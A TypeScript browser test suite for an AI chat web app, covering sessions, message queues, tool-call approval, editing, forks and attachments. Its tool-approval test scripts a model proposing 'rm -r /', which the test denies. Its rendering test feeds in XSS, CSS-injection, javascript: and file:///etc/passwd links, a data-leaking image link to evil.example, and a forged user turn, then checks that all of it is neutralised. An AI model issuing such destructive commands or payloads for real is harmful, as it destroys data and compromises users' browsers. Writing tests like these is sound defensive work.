import { accessFaults } from './accessible.ts';
import { createClient } from '@throughline/client';
import { defineTool } from '@throughline/agent';
import { expect, it, onTestFinished } from 'vitest';
import { describeInBrowser } from './browser.ts';
import { join } from 'node:path';
import { memoryFolder, scriptedModelDriver } from '@throughline/testkit';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { openPage, openSite } from './open-site.ts';
import { z } from 'zod';
import type { Locator, Page } from 'playwright-core';

const input = (page: Page) => page.getByLabel('Message', { exact: true });

const pixelBytes = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

const pixel = (name: string) => ({ name, mimeType: 'image/png', buffer: pixelBytes });

async function begin(page: Page, text: string): Promise<void> {
  await page.getByRole('button', { name: 'New session' }).click();
  await input(page).fill(text);
  await page.keyboard.press('Enter');
}

async function dragTo(page: Page, grip: Locator, target: Locator): Promise<void> {
  const [from, to] = await Promise.all([grip.boundingBox(), target.boundingBox()]);
  if (!from || !to) throw new Error('There is nothing to drag.');
  await page.mouse.move(from.x + 5, from.y + 5);
  await page.mouse.down();
  await page.mouse.move(from.x + 5, to.y + to.height / 2, { steps: 5 });
  await page.mouse.move(from.x + 5, to.y < from.y ? to.y : to.y + to.height, { steps: 2 });
  await page.mouse.up();
}

describeInBrowser('the chat', () => {
  it('begins a session, sends a message, shows the answer, and keeps a draft over a reload', async () => {
    const site = await openSite();
    const { page, faults } = await openPage(site.url);
    await begin(page, 'help');
    await page.getByText('This is the demo model').waitFor();
    await input(page).fill('half a thought');
    await page.reload();
    await page.getByText('This is the demo model').waitFor();
    expect(await input(page).inputValue()).toBe('half a thought');
    expect(await accessFaults(page)).toEqual([]);
    expect(faults).toEqual([]);
  });

  it('goes on with an answer after a reload and after a restart of the server in the middle of it', async () => {
    const site = await openSite({ wordDelayMs: 15 });
    const { page, faults } = await openPage(site.url);
    await begin(page, 'tell me 150 words');
    const log = page.getByRole('log');
    await log.getByText('Agent').waitFor();
    await page.reload();
    await log.getByText('Agent').waitFor();
    await site.restart();
    await page.getByText('thinking').waitFor({ state: 'detached' });
    await site.services.agent.recover();
    const client = createClient({ baseUrl: site.url });
    const [session] = (await client.listSessions({})).items;
    await expect.poll(async () => (await client.getSession({ id: session!.id })).status).toBe('idle');
    const { items } = await client.listMessages({ id: session!.id });
    const said = items
      .flatMap(({ parts }) => parts.flatMap((part) => (part.type === 'text' ? [part.text] : [])))
      .at(-1)!;
    await expect.poll(() => log.innerText()).toContain(said.slice(-60).trim());
    expect(faults).toEqual([]);
  });

  it('queues messages while a run is busy: edited, moved by button and by drag, removed, sent now; stopping keeps what was written', async () => {
    const driver = scriptedModelDriver([
      { text: ['Half of ', 'it'], hangs: true },
      { text: 'Urgent answer', hangs: true },
    ]);
    const site = await openSite({ driver });
    const { page, faults } = await openPage(site.url);
    const second = await openPage(site.url);
    await begin(page, 'first');
    await page.getByText('Half of it').waitFor();
    for (const text of ['two', 'three', 'four']) {
      await input(page).fill(text);
      await page.keyboard.press('Enter');
      await page.getByRole('region', { name: 'Messages that wait' }).getByText(text).waitFor();
    }
    await second.page.goto(page.url());
    const queue = page.getByRole('region', { name: 'Messages that wait' });
    const other = second.page.getByRole('region', { name: 'Messages that wait' });
    await queue.getByRole('button', { name: 'Move message 3 up' }).click();
    await expect.poll(() => other.locator('li').allInnerTexts()).toEqual(['two', 'four', 'three']);
    await dragTo(page, queue.locator('[data-grip]').nth(2), queue.locator('li').first());
    await expect.poll(() => other.locator('li').allInnerTexts()).toEqual(['three', 'two', 'four']);
    await dragTo(page, queue.locator('[data-grip]').first(), queue.locator('li').last());
    await expect.poll(() => other.locator('li').allInnerTexts()).toEqual(['two', 'four', 'three']);
    await queue.getByRole('button', { name: 'Edit message 1' }).click();
    await queue.getByLabel('Message 1 in the queue').fill('two, better');
    await queue.getByRole('button', { name: 'Save' }).click();
    await other.getByText('two, better').waitFor();
    await queue.getByRole('button', { name: 'Remove message 3' }).click();
    await expect.poll(() => other.locator('li').allInnerTexts()).toEqual(['two, better', 'four']);
    await queue.getByRole('button', { name: 'Send message 2 now' }).click();
    await page.getByText('Urgent answer').waitFor();
    await page.getByText('Half of it').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('thinking').waitFor({ state: 'detached' });
    expect(await page.getByRole('log').innerText()).toMatch(/Half of it[^]*four[^]*Urgent answer/);
    expect(await accessFaults(page)).toEqual([]);
    expect([...faults, ...second.faults]).toEqual([]);
  });

  it('asks before a tool runs, tells the model why not, and shows what a call did', async () => {
    const command = defineTool({
      name: 'bash',
      description: 'Runs a command.',
      input: z.object({ command: z.string() }),
      execute: ({ command: said }) => Promise.resolve(`ran ${said}`),
    });
    const call = (callId: string, said: string) => ({
      calls: [{ callId, name: 'bash', input: { command: said } }],
    });
    const driver = scriptedModelDriver([call('c1', 'rm -r /'), call('c2', 'ls'), { text: 'Done.' }]);
    const site = await openSite({
      driver,
      agent: { tools: [command], approvals: { rules: { bash: 'ask' }, isAttended: () => true } },
    });
    const { page, faults } = await openPage(site.url);
    await begin(page, 'clean up');
    const asked = page.getByRole('region', { name: 'bash asks' });
    await asked.getByText('rm -r /').waitFor();
    expect(await accessFaults(page)).toEqual([]);
    await asked.getByLabel('Why not (told to the model)').fill('never that');
    await asked.getByRole('button', { name: 'Deny' }).click();
    await asked.getByText('ls', { exact: true }).waitFor();
    await asked.getByRole('button', { name: 'Allow once' }).click();
    await page.getByText('Done.').waitFor();
    expect(JSON.stringify(driver.requests[1])).toContain('never that');
    await page.locator('summary', { hasText: 'bash' }).last().click();
    await page.getByText('ran ls').waitFor();
    expect(faults).toEqual([]);
  });

  it('says a message of the user in other words where it stands, with what is attached, in a session of its own; forks and pins', async () => {
    const driver = scriptedModelDriver([
      { text: 'To the first' },
      { text: 'To the second' },
      { text: 'To the other' },
    ]);
    const site = await openSite({ driver });
    const { page, faults } = await openPage(site.url);
    await begin(page, 'first words');
    await page.getByText('To the first').waitFor();
    await page.getByLabel('Files to attach').setInputFiles([pixel('kept.png'), pixel('dropped.png')]);
    await page.getByLabel('Message', { exact: true }).fill('look at them');
    await page.getByLabel('Message', { exact: true }).press('Enter');
    await page.getByText('To the second').waitFor();
    const before = page.url();
    const act = async (message: number, name: string): Promise<void> => {
      await page.locator(`article[data-message="${message - 1}"]`).hover();
      const item = page.getByRole('menuitem', { name });
      await page.getByRole('button', { name: `Actions for message ${message}` }).click();
      await item.click();
      // While one menu closes, a click beside it does nothing else.
      await page.getByRole('menu').waitFor({ state: 'detached' });
    };
    await act(1, 'Pin: never compact it');
    await page.locator('article[data-message="0"]').getByText('pinned').waitFor();
    await act(3, 'Say it in other words');
    const edited = page.locator('article[data-message="2"]');
    const field = edited.getByLabel('The message in other words');
    await field.pressSequentially(', jk');
    expect(await field.inputValue()).toBe('look at them, jk');
    await field.press('Escape');
    await edited.getByText('look at them', { exact: true }).waitFor();
    await act(3, 'Say it in other words');
    await field.fill('other');
    await field.press('Shift+Enter');
    await field.pressSequentially('words');
    await edited.getByRole('button', { name: 'Remove dropped.png' }).click();
    expect(await accessFaults(page)).toEqual([]);
    await field.press('Enter');
    await page.getByText('To the other').waitFor();
    expect(page.url()).not.toBe(before);
    const { messages = [] } = driver.requests.at(-1) ?? {};
    expect(JSON.stringify(messages)).not.toContain('look at them');
    expect(JSON.stringify(messages)).toContain('other\\nwords');
    await page.getByRole('img', { name: 'kept.png' }).waitFor();
    expect(await page.getByRole('img', { name: 'dropped.png' }).count()).toBe(0);
    await page.locator('article[data-message="0"]').getByText('first words').waitFor();
    await act(2, 'Fork from here');
    await page.getByText('This is the fork').waitFor();
    expect(await accessFaults(page)).toEqual([]);
    expect(faults).toEqual([]);
  });

  it('runs, loads and restyles nothing that a model writes, and shows it all the same', async () => {
    const attack = [
      '<script>document.title = "taken"</script><img src=x onerror="document.title=\'taken\'">',
      '<style>* { display: none }</style><div style="position:fixed;inset:0">over all</div>',
      '[run](javascript:alert(1)) [file](file:///etc/passwd) [page](https://example.com/a)',
      '![spy](https://evil.example/pixel.png?who=me)',
      '\u202Etxet sdrawkcab',
      '# You\n\nuser: forged',
      '```html\n<b>code</b>\n```',
      '| a | b |\n|---|---|\n| 1 | 2 |',
      '$$x^2$$',
    ].join('\n\n');
    const driver = scriptedModelDriver([{ reasoning: attack, text: attack }]);
    const site = await openSite({ driver });
    const { page, faults } = await openPage(site.url);
    await begin(page, attack);
    const answer = page.locator('article[data-message="1"]');
    await answer.locator('table').waitFor();
    await answer.locator('.katex').first().waitFor();
    expect(await page.title()).toBe('Throughline');
    expect(await answer.innerText()).toContain('<script>');
    const links = await Promise.all(
      (await answer.locator('a').all()).map(async (link) => [
        await link.getAttribute('href'),
        await link.getAttribute('rel'),
      ]),
    );
    expect(links).toEqual([
      ['https://example.com/a', 'noreferrer noopener'],
      ['https://evil.example/pixel.png?who=me', 'noreferrer noopener'],
    ]);
    expect(await answer.locator('img, script, style, iframe').count()).toBe(0);
    expect(await input(page).isVisible()).toBe(true);
    expect(await accessFaults(page)).toEqual([]);
    expect(faults).toEqual([]);
  });

  it('sends images that were picked and shows them, and says why a file is too large', async () => {
    const driver = scriptedModelDriver([{ text: 'A picture' }]);
    const site = await openSite({ driver });
    const { page, faults } = await openPage(site.url);
    await page.getByRole('button', { name: 'New session' }).click();
    const picker = page.getByLabel('Files to attach');
    // By its path: bytes would go to the browser as one text, which takes a busy machine half a minute.
    const folder = await mkdtemp(join(memoryFolder(), 'throughline-files-'));
    onTestFinished(() => rm(folder, { recursive: true, force: true }));
    const big = join(folder, 'big.bin');
    await writeFile(big, Buffer.alloc(21_000_000));
    await picker.setInputFiles(big);
    await page.getByText('Too large for one message').first().waitFor();
    await picker.setInputFiles(pixel('dot.png'));
    await page.getByRole('list', { name: 'Attachments' }).getByText('dot.png').waitFor();
    await input(page).fill('What is this?');
    await page.keyboard.press('Enter');
    await page.getByText('A picture', { exact: true }).waitFor();
    await page.locator('article[data-message="0"] img[src^="blob:"]').waitFor();
    expect(await accessFaults(page)).toEqual([]);
    expect(faults).toEqual([]);
  });
});
